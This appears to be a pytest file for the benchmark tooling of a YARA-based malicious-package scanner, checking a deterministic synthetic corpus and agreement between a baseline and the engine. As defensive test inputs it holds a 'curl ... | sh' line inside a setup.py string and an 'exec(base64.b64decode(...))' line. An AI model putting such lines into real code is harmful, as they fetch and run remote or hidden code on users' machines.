"""Fast checks of the benchmark tooling (bench/): the corpus generator is deterministic, and the pure-Python
baseline agrees with the engine on a tiny corpus, so the benchmark compares like with like."""

from __future__ import annotations

import hashlib
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # the repository root, for `import bench`

pytest.importorskip("yara_x", reason="the yara-x Python package (extra 'bench') is not installed")

from bench import rulesets, synthetic
from bench.baseline import BaselineScanner, compile_rules, disagreements, members, outcome_of

TINY = synthetic.CorpusSpec(seed=7, scale=0.004, releases=3)


def _digests(root: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted((root / "dists").iterdir())}


@pytest.fixture(scope="module")
def tiny_corpus(tmp_path_factory: pytest.TempPathFactory) -> synthetic.Corpus:
    return synthetic.generate(tmp_path_factory.mktemp("tiny"), TINY)


def test_generator_is_deterministic(tiny_corpus: synthetic.Corpus, tmp_path: Path) -> None:
    again = synthetic.generate(tmp_path / "again", TINY)
    assert _digests(again.root) == _digests(tiny_corpus.root)
    assert (again.root / "manifest.json").read_text() == (tiny_corpus.root / "manifest.json").read_text()
    other = synthetic.generate(tmp_path / "other", synthetic.CorpusSpec(seed=8, scale=0.004, releases=3))
    assert _digests(other.root) != _digests(tiny_corpus.root)


def test_corpus_shape(tiny_corpus: synthetic.Corpus) -> None:
    names = [d.filename for d in tiny_corpus.distributions]
    assert any(n.endswith(".tar.gz") for n in names) and any(n.endswith(".whl") for n in names)
    for d in tiny_corpus.distributions:
        files = list(members(d.path.read_bytes(), d.filename))
        assert len(files) == d.files
        assert sum(len(b) for _, b in files) == d.inflated
        if d.filename.endswith(".tar.gz"):
            top = d.filename.removesuffix(".tar.gz") + "/"
            assert all(p.startswith(top) for p, _ in files)
    # The package's modules are byte-identical in a release's sdist and wheel.
    sdist, wheel = tiny_corpus.distributions[0], tiny_corpus.distributions[1]
    top = sdist.filename.removesuffix(".tar.gz") + "/"
    in_sdist = {p.removeprefix(top): b for p, b in members(sdist.path.read_bytes(), sdist.filename)}
    shared = [p for p, b in members(wheel.path.read_bytes(), wheel.filename) if in_sdist.get(p) == b]
    assert len(shared) >= 2
    # Release 0 always carries markers, so the benchmark rules produce findings.
    assert tiny_corpus.distributions[0].markers


def test_ensure_corpus_reuses_the_cache(tmp_path: Path) -> None:
    spec = synthetic.CorpusSpec(seed=3, scale=0.002, releases=2)
    first = synthetic.ensure_corpus(spec, tmp_path)
    mtimes = {d.filename: d.path.stat().st_mtime_ns for d in first.distributions}
    second = synthetic.ensure_corpus(spec, tmp_path)
    assert second.root == first.root
    assert {d.filename: d.path.stat().st_mtime_ns for d in second.distributions} == mtimes


def test_rule_sets_compile_with_yara_x() -> None:
    assert len(list(compile_rules(rulesets.small_sources()))) > 50
    light, _ = rulesets.get("light")
    assert len(list(compile_rules(light))) >= 6


def test_baseline_applies_filetype_and_weights(tmp_path: Path) -> None:
    scanner = BaselineScanner(rulesets.small_sources())
    out = scanner.scan_bytes(b'x = 1\nexec(base64.b64decode("aGk="))\n', "evil.py")
    assert {"DFH_BENCH_exec_b64", "DFH_BENCH_b64decode_anywhere"} <= out.rules_matched
    out = scanner.scan_bytes(b'x = 1\nexec(base64.b64decode("aGk="))\n', "notes.txt")
    assert "DFH_BENCH_exec_b64" not in out.rules_matched  # filetype ".py"
    assert "DFH_BENCH_b64decode_anywhere" in out.rules_matched and out.score == 0  # weight 0
    out = scanner.scan_bytes(b'os.system("curl -s https://a.example/x.sh | sh")\n', "setup.py")
    assert out.rules_matched >= {"DFH_BENCH_curl_sh", "DFH_BENCH_string_weight"}
    assert out.score == 4  # DFH_BENCH_string_weight's weight is the string "7": counts 0


def test_baseline_and_engine_agree(tiny_corpus: synthetic.Corpus) -> None:
    from dragonfly_hybrid import Rules, Scanner

    sources = rulesets.small_sources()
    paths = [str(d.path) for d in tiny_corpus.distributions]
    names = [d.filename for d in tiny_corpus.distributions]
    expected = BaselineScanner(sources).scan_many(paths)
    results = Scanner(Rules.compile(sources), threads=2).scan_many(
        [(n, p, None) for n, p in zip(names, paths, strict=True)]
    )
    assert [r.name for r in results] == names
    assert all(r.complete for r in results), [(r.name, [i.kind for i in r.issues]) for r in results]
    assert disagreements(names, expected, [outcome_of(r) for r in results]) == []
    assert any(o.score > 0 for o in expected)  # the comparison covers real findings
